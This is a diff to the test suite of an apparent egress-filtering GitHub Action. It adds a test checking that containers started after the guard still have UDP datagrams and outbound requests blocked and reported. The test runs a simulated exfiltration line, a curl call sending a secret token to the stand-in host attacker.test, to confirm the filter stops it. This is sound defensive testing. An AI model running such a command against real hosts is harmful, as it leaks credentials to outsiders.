@@ -207,7 +207,7 @@ describe('GitHub Action on a simulated GitHub-hosted runner', { timeout: 600_000
       assert.equal(outputs(job).get('events-file'), '/var/lib/egress-guard/events.ndjson');
       assert.match(
         main.stdout,
-        /containers on docker0, br-\+ redirected too \(IPv4 and IPv6; forwarded traffic filtered in DOCKER-USER and ip6tables FORWARD; connections between containers told by their route/,
+        /containers on docker0, br-\+ redirected too \(IPv4 and IPv6; forwarded traffic filtered first in DOCKER-USER \(made in ip6tables, where Docker had not made it yet\); connections between containers told by their route/,
       );
       assert.match(main.stdout, /packets the rules refuse or report are read by its built-in NFLOG reader/);
       const since = Date.now();
@@ -398,6 +398,37 @@ describe('GitHub Action on a simulated GitHub-hosted runner', { timeout: 600_000
       assert.notEqual(post.code, 0, `post passed despite fail-on-block:\n${post.stdout}`);
       assert.match(post.stdout, /^::error::egress-guard: \d+ destination\(s\) would be blocked in block mode \(audit mode\), and fail-on-block is set: .*attacker\.test:443/m);
       assert.match(post.stdout, annotation('warning', 'would-block', 'attacker\\.test:443'));
+    } finally {
+      await runner.stop();
+    }
+  });
+
+  it('block mode, Docker started after main: a container is still filtered first (its datagram refused and reported, its TCP decided)', async () => {
+    // Docker inserts its own FORWARD rules at the top when it starts (accepting what leaves a bridge) and keeps only
+    // DOCKER-USER ahead of them. Until 2026-12-02 main hooked the rules for containers into FORWARD where Docker had
+    // not made DOCKER-USER yet, so a Docker started later put its accepts above them: a container's UDP left
+    // unrefused and unreported in block mode.
+    const runner = await SimulatedRunner.start(world, 'latedocker', NET.dns);
+    try {
+      const job = runner.newJob('latedocker', { 'egress-policy': 'block', 'allowed-endpoints': ALLOWED, 'trusted-ranges': TRUSTED });
+      const main = await runner.runAction(job, 'main');
+      assert.equal(main.code, 0, `main failed:\n${main.stdout}\n${main.stderr}`);
+      await runner.startDockerd(NET.dns);
+      await runner.importToolsImage();
+      const since = Date.now();
+      const inContainer = containerExecutor(dockerCli(runner, job), world, 'bridge');
+      const udp = await udpDatagram(inContainer);
+      assert.equal(udp.code, 0, udp.stderr);
+      const attacker = await inContainer('curl', ['-sS', '--max-time', '8', '--cacert', world.caFile, `https://attacker.test/late?token=${SECRET}`]);
+      assert.notEqual(attacker.code, 0, 'a container reached attacker.test');
+      await new Promise((r) => setTimeout(r, 500));
+      assert.deepEqual(
+        internetSince(world, since).filter((e) => e.type === 'udp' || JSON.stringify(e).includes(SECRET)),
+        [],
+        "the container's datagram (or request) reached the internet",
+      );
+      const post = await runner.runAction(job, 'post');
+      assert.match(post.stdout, annotation('error', 'blocked', `${escapeRegExp(NET.attacker)}:9999`), `no event for the container's datagram:\n${post.stdout}`);
     } finally {
       await runner.stop();
     }
